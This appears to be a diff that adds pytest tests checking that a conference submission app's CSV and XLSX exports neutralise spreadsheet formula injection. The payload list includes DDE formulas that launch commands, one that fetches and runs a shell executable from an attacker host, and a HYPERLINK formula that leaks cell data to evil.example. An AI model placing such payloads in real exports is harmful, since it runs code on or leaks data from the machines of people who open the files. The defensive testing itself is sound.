@@ -284,3 +284,72 @@ def test_export_query_count_does_not_grow(
         response = organiser_client.get(export_url(conference, fmt))
 
     assert response.status_code == 200
+
+
+# --- the OWASP CSV-injection list, in both formats ---------------------------------------------
+
+OWASP_PAYLOADS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\tcmd",
+    "\rcmd",
+    " =1+1",
+    "   @SUM(1+1)",
+    "\x01=1+1",
+    "\x00=1+1",
+    "\x1b+1",
+    "\x7f-1",
+    "\u200b=1+1",  # zero-width space
+    "\ufeff=1+1",  # byte-order mark
+    "\u202e=1+1",  # right-to-left override
+    "\u00a0=1+1",  # no-break space
+    "\u3000=1+1",  # ideographic space
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+    " \x02 ＝cmd|' /C calc'!A0",
+    "﹦1+1",
+    "\u22121+1",  # minus sign
+]
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_every_owasp_payload_is_neutralised(payload):
+    assert neutralise(payload) == "'" + payload
+
+
+# PostgreSQL stores no NUL in text; the unit test above covers it.
+@pytest.mark.parametrize("payload", [p for p in OWASP_PAYLOADS if "\x00" not in p])
+def test_owasp_payloads_are_neutralised_in_csv_and_xlsx(conference, payload):
+    SubmissionFactory(conference=conference, title=payload)
+    AuthorshipFactory(submission=Submission.objects.get(conference=conference), affiliation=payload)
+    queryset = Submission.objects.for_organisers_of(conference)
+
+    csv_row = csv_rows(export_csv(queryset, conference))[1]
+    xlsx_row = xlsx_rows(export_xlsx(queryset, conference))[1]
+
+    assert csv_row[3] == "'" + payload
+    assert csv_row[7].startswith("'")
+    # XLSX drops the characters XML cannot store, then prefixes what is left.
+    from cfp.exports import _ILLEGAL_XML
+
+    # (XML reads a stored CR back as LF.)
+    assert xlsx_row[3] == ("'" + _ILLEGAL_XML.sub("", payload)).replace("\r", "\n")
+    assert xlsx_row[7].startswith("'")
+
+
+@pytest.mark.parametrize(
+    "value", ["plain", "Anh ngữ", "a=b", "1-2 June", "mail@example.org", " leading space", ""]
+)
+def test_ordinary_text_is_left_alone(value):
+    assert neutralise(value) == value
